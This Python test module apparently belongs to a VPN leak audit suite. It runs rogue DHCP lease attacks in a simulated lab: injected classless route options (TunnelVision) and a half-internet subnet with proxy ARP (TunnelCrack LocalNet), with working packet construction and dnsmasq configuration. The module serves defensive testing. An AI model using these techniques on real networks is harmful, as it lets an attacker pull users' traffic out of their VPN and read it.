# SPDX-License-Identifier: GPL-3.0-or-later
"""Leases that lure: routes beside the tunnel, a subnet that is the whole internet, the target's own address.

The laptop's client makes every route that a lease speaks of (`tests.lab.laptop`), as the most obedient of clients do.
"""

import json
import os
import signal
import struct
import sys
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path
from typing import Final

from tests.audits.attack import Attack, Harmless, Phase
from tests.audits.attacker import PORT, ROUTER4, counting
from tests.audits.scene import LINK, Scene
from tests.lab import dnsmasq, plan
from tests.lab.frames import Kind
from tests.lab.process import wait_for

TARGET: Final = plan.ECHO4
"""Whom the attacker wants to read along with: the call goes there."""
_HONEST: Final = dnsmasq.lan_config(plan.HOME, lease_s=120, portal=False)
_LURES: Final = ("0.0.0.0/1", "128.0.0.0/1", f"{TARGET}/32", f"{plan.GATEWAY4}/32")
_CLASSLESS: Final = "".join(f",{lure},{ROUTER4}" for lure in _LURES)
_OFFERS: Final = (
    f"dhcp-option-force=121{_CLASSLESS}\n",
    f"dhcp-option-force=249{_CLASSLESS}\n",
    f"dhcp-option-force=33,{TARGET},{ROUTER4},{plan.GATEWAY4},{ROUTER4}\n",
    f"dhcp-option-force=121{_CLASSLESS},0.0.0.0/0,{ROUTER4}\ndhcp-option=option:router\n",
)
"""What dnsmasq is told beside the honest configuration: classless routes, Microsoft's, static ones, and classless ones
in place of the router (RFC 3442 has a client ignore it then anyway).
"""


# -- routes (A1) -------------------------------------------------------------------------------------------------------
def _lure(scene: Scene, offer: str) -> None:
    """Have the router's dnsmasq hand out routes, and the client ask for its lease."""
    dnsmasq.restart(scene.attacker, _HONEST + offer)
    scene.laptop.lab.renew(LINK)
    wait_for("the routes", lambda: f"{TARGET} " in scene.host.ip(f"-4 route show dev {LINK}"))


def _no_more_lures(scene: Scene) -> None:
    dnsmasq.restart(scene.attacker, _HONEST)
    _forget_routes(scene)


def _forget_routes(scene: Scene) -> None:
    for route in scene.host.ip(f"-4 route show dev {LINK}").splitlines():
        if not route.startswith("default") and "proto kernel" not in route:
            scene.host.ip(f"route del {route} dev {LINK}")


def _routes(scene: Scene, tries: int) -> None:
    """A lease after the other, each with other routes."""
    try:
        for number in range(tries):
            _lure(scene, _OFFERS[number % len(_OFFERS)])
            scene.everybody_tries()
            _forget_routes(scene)
    finally:
        _no_more_lures(scene)


def _routes_lure(scene: Scene) -> None:
    lab = scene.laptop.lab
    lab.wg_quick("up")
    try:
        _lure(scene, _OFFERS[0])
        _must_leave(scene, str(TARGET))
    finally:
        lab.wg_quick("down")
        _no_more_lures(scene)


def _must_leave(scene: Scene, *addresses: str) -> None:
    """`Harmless` unless pings to these are seen in clear."""
    with scene.laptop.world.record() as recorder:
        for address in addresses:
            before = recorder.count(Kind.CLEAR)
            scene.host.run("ping", "-c1", "-W1", address, check=False, uid=plan.USER)
            if recorder.count(Kind.CLEAR) == before:
                raise Harmless(f"what is for {address} stays in the tunnel of plain wg-quick")


# -- leases of any kind ------------------------------------------------------------------------------------------------
_BOOTP: Final = struct.Struct("!BBBBIHH4s4s4s4s16s64s128s4s")
_OFFER, _ACK, _NAK = 2, 5, 6
_SERVED: Final = "table ip leases { chain in { type filter hook input priority 0; udp dport 67 drop; }; }\n"
"""The honest server hears nothing; a packet socket hears all the same."""


def option(code: int, value: bytes) -> bytes:
    """One option (RFC 2132); longer ones in pieces (RFC 3396)."""
    pieces = [value[at : at + 255] for at in range(0, len(value), 255)] or [b""]
    return b"".join(bytes([code, len(piece)]) + piece for piece in pieces)


def message(kind: int, address: str, options: bytes) -> bytes:
    """What a server says, without the client's number and hardware address (lease_server.py puts them in)."""
    server, nobody = IPv4Address(ROUTER4).packed, bytes(4)
    head = _BOOTP.pack(
        *(2, 1, 6, 0, 0, 0, 0x8000, nobody, IPv4Address(address).packed, server, nobody),
        *(bytes(16), bytes(64), bytes(128), b"\x63\x82\x53\x63"),
    )
    return head + option(53, bytes([kind])) + options + b"\xff"


def lease(prefix: int = 24, gateway: str = ROUTER4, *, seconds: int = 120) -> bytes:
    """The options of an ordinary lease."""
    mask = IPv4Network(f"0.0.0.0/{prefix}").netmask.packed
    router, server = IPv4Address(gateway).packed, IPv4Address(ROUTER4).packed
    return b"".join(
        option(code, value)
        for code, value in ((54, server), (51, struct.pack("!I", seconds)), (1, mask), (3, router), (6, server))
    )


def serve(scene: Scene, address: str, options: bytes, odd: tuple[bytes, ...] = (), each: int = 0) -> Path:
    """Give this lease to whoever asks, from now on, each time behind some odd answers; returns the server's report."""
    host = scene.attacker
    orders, report = host.dir / "lease-orders.json", host.dir / "lease-report.json"
    order = {
        "server": IPv4Address(ROUTER4).packed.hex(),
        "odd": [payload.hex() for payload in odd],
        "each": each,
        "offer": message(_OFFER, address, options).hex(),
        "ack": message(_ACK, address, options).hex(),
    }
    aside = orders.with_suffix(".new")
    aside.write_text(json.dumps(order), encoding="utf-8")
    aside.rename(orders)
    if not host.pids_of("tests.audits.lease_server"):
        host.nft(_SERVED)
        log = host.dir / "leases.log"
        log.unlink(missing_ok=True)
        words = (sys.executable, "-m", "tests.audits.lease_server", PORT, str(orders), str(report))
        host.spawn(*words, log="leases")
        wait_for("the lease server", lambda: log.exists() and "ready" in log.read_text())
    return report


def serve_no_more(scene: Scene) -> None:
    """End the server, and bring the laptop home again."""
    for pid in scene.attacker.pids_of("tests.audits.lease_server"):
        os.kill(pid, signal.SIGKILL)
    scene.attacker.run("nft", "delete", "table", "ip", "leases", check=False)
    scene.laptop.world.roam("home", ipv6=True)


# -- the whole internet is on the link (A3) ----------------------------------------------------------------------------
_INSIDE: Final = "203.0.113.200"
"""An address for the laptop in the target's own network."""
_NEIGHBOURS: Final = {"echo": plan.ECHO4, "web": plan.WEB4, "dns": plan.DNS4}


def _join_localnet(scene: Scene) -> None:
    """The lease says that half of the internet, target and gateway included, is on this link; whoever is asked for by
    ARP, the attacker answers.
    """
    scene.attacker.sysctl(ipv4__conf__lan0__proxy_arp=1)
    scene.attacker.ip(f"route replace {_INSIDE}/32 dev {PORT}")
    serve(scene, _INSIDE, lease(prefix=1))
    scene.laptop.lab.renew(LINK)
    scene.settle()


def _localnet(scene: Scene, tries: int) -> None:
    """Be in that network, and ask for its lease now and then; the target is never looked for on the link."""
    asks = {name: f"arp operation request arp daddr ip {address}" for name, address in _NEIGHBOURS.items()}
    try:
        with counting(scene.attacker, **asks) as asked:
            for _ in range(tries):
                scene.everybody_tries()
                scene.laptop.lab.renew(LINK)
            looked_for = {name for name, number in asked().items() if number}
        assert scene.phase is Phase.ACCESS or not looked_for, f"looked for on the link: {', '.join(looked_for)}"
    finally:
        _leave_localnet(scene)


def _leave_localnet(scene: Scene) -> None:
    scene.attacker.sysctl(ipv4__conf__lan0__proxy_arp=0)
    scene.attacker.ip(f"route del {_INSIDE}/32")
    serve_no_more(scene)


def _localnet_lures(scene: Scene) -> None:
    lab = scene.laptop.lab
    lab.wg_quick("up")
    try:
        _join_localnet(scene)
        _must_leave(scene, str(TARGET))
    finally:
        lab.wg_quick("down")
        _leave_localnet(scene)


ATTACKS: Final = (
    Attack(
        "A1",
        "routes",
        "a lease brings routes: options 121, 249 and 33 for halves of the internet, the target, the gateway"
        " (TunnelVision, CVE-2024-3661)",
        _routes,
        _routes_lure,
        tries=4,
        service=0.99,
        brief=(Phase.CONNECTED,),
    ),
    Attack(
        "A3",
        "localnet",
        "a lease says that half of the internet is on this link, and the attacker answers for everybody (TunnelCrack"
        " LocalNet, CVE-2023-36672, CVE-2023-35838)",
        _localnet,
        _localnet_lures,
        prepare=_join_localnet,
        service=0.99,
        brief=(Phase.CONNECTED,),
    ),
)
